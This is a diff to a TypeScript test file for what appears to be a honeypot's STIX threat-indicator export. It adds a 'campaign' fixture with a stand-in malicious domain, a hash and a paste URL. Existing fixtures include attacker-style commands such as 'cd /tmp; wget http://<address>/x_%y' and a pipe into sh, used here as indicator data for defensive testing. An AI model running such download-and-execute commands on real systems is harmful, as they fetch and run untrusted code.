@@ -53,6 +53,7 @@ const values: Readonly<Record<Indicator['kind'], readonly string[]>> = {
   credential: ["root:12'34\\5", 'root:', ':'],
   hassh: ['b12d2871a1189eff20364cf5333619ee'],
   ja4: ['t13d1516h2_8daaf6152771_02713d6af862'],
+  campaign: ['00112233aabbccdd'],
   command: ["echo 'x' \\ | sh", 'cd /tmp; wget http://<address>/x_%y', '<data>'],
 }
 const one = (kind: Indicator['kind'], value: string): Indicator => ({
@@ -73,6 +74,16 @@ const one = (kind: Indicator['kind'], value: string): Indicator => ({
   economy: 'AU',
   services: ['ssh'],
   ports: [22, 23],
+  ...(kind === 'campaign' && {
+    detail: 'key SHA256:kkkk… · evil.bins-host.com',
+    marks: [
+      { kind: 'file', value: 'a'.repeat(64) },
+      { kind: 'key', value: `SHA256:${'k'.repeat(43)}` },
+      { kind: 'domain', value: 'evil.bins-host.com' },
+      { kind: 'domain', value: '198.51.100.3' },
+      { kind: 'url', value: 'https://paste.example/raw/x' },
+    ],
+  }),
 })
 
 test('an observable has the id that the specification gives it', () => {
@@ -145,7 +156,8 @@ test('every object that is made for every kind satisfies the schemas of OASIS', 
         for (const name of ['source_ref', 'target_ref', 'sighting_of_ref', 'created_by_ref', 'src_ref'])
           if (object[name] !== undefined && !String(object[name]).startsWith('attack-pattern'))
             expect(ids.has(String(object[name])), `${object.id} ${name}`).toBe(true)
-      expect(String(indicator['valid_until']) > String(indicator['valid_from'])).toBe(true)
+      const [from, until] = kind === 'campaign' ? ['first_seen', 'last_seen'] : ['valid_from', 'valid_until']
+      expect(String(indicator[until]) > String(indicator[from])).toBe(true)
     }
 })
 
